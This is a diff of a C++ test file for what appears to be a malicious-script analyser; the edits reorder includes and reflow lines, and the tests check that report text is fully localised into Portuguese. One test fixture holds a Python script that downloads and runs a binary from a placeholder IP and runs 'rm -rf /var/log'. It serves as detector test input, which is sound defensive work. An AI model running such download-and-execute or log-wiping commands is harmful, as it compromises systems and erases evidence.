@@ -1,5 +1,3 @@
-#include "language/messages.h"
-
 #include <gtest/gtest.h>
 
 #include <filesystem>
@@ -14,6 +12,7 @@
 #include "behaviour/rules.h"
 #include "behaviour_examples.h"
 #include "diagnostic/diagnostic.h"
+#include "language/messages.h"
 #include "language/tables.h"
 #include "pyverdict.h"
 
@@ -79,11 +78,11 @@ TEST(Language, DurationsAreSaidInTheLargestUnitThatIsThereTwice) {
 using Json = nlohmann::json;
 
 /// The members of a report that people read, by their names in its JSON.
-const std::set<std::string> kForPeople = {"summary", "counterTitles", "title", "reason", "purpose", "meaning",
-                                          "why",     "message",       "notes", "note"};
+const std::set<std::string> kForPeople = {"summary", "counterTitles", "title",   "reason", "purpose",
+                                          "meaning", "why",           "message", "notes",  "note"};
 
-/// What people read in a report, each with the place where it stands. `step` is whether the value is a step of
-/// the response or a part of it: the names of its sources are read as well.
+/// What people read in a report, each with the place where it stands. `step` is whether the value is a step
+/// of the response or a part of it: the names of its sources are read as well.
 void sentences(const Json& value, const std::string& place, bool for_people,
                std::vector<std::pair<std::string, std::string>>& out) {
   if (value.is_string() && for_people) out.emplace_back(place, value.get<std::string>());
@@ -146,19 +145,20 @@ TEST(Language, NothingThatPeopleReadInAReportStaysInEnglish) {
   }
   expect_both_languages("import logging, argparse\nlogging.basicConfig()\n", places);
   // All of it was there to be compared.
-  const std::set<std::string> wanted = {".verdict.summary",       ".verdict.counterTitles",
-                                        ".evidence.title",        ".related.why",
-                                        ".input.script.meaning",  ".finding.detector.meaning",
-                                        ".response.steps.title",  ".response.steps.reason",
+  const std::set<std::string> wanted = {".verdict.summary",        ".verdict.counterTitles",
+                                        ".evidence.title",         ".related.why",
+                                        ".input.script.meaning",   ".finding.detector.meaning",
+                                        ".response.steps.title",   ".response.steps.reason",
                                         ".response.commands.note", ".response.commands.purpose",
-                                        ".response.notes",        ".response.steps.source.name",
+                                        ".response.notes",         ".response.steps.source.name",
                                         ".diagnostics.message"};
   EXPECT_EQ(places, wanted);
 }
 
 TEST(Language, AReportInPortugueseSaysTheSame) {
   const std::string_view script =
-      "import os, logging\nlogging.basicConfig()\nos.system('curl http://192.0.2.1/x -o /tmp/x && chmod +x /tmp/x "
+      "import os, logging\nlogging.basicConfig()\nos.system('curl http://192.0.2.1/x -o /tmp/x && chmod +x "
+      "/tmp/x "
       "&& /tmp/x')\n"
       "import sys\nsys.exit()\nos.system('rm -rf /var/log')\n";
   const Analysis english = analyze(script);
@@ -169,8 +169,8 @@ TEST(Language, AReportInPortugueseSaysTheSame) {
   EXPECT_EQ(en.verdict.reasons, pt.verdict.reasons);
   const std::string markdown = report::to_markdown(pt);
   EXPECT_EQ(markdown.rfind("# Veredicto: malicioso", 0), 0u) << markdown.substr(0, 60);
-  for (const char* word : {"# Verdict", "## Why", "## Indicators", "Response plan", "Containment", "cannot run",
-                           "`logging`", "download", "written", " path `", " url `"})
+  for (const char* word : {"# Verdict", "## Why", "## Indicators", "Response plan", "Containment",
+                           "cannot run", "`logging`", "download", "written", " path `", " url `"})
     EXPECT_EQ(markdown.find(word), std::string::npos) << word;
   for (const char* word : {"Configura um registo", "Endereço IPv4", "Caminho", "transferência"})
     EXPECT_NE(markdown.find(word), std::string::npos) << word << '\n' << markdown;
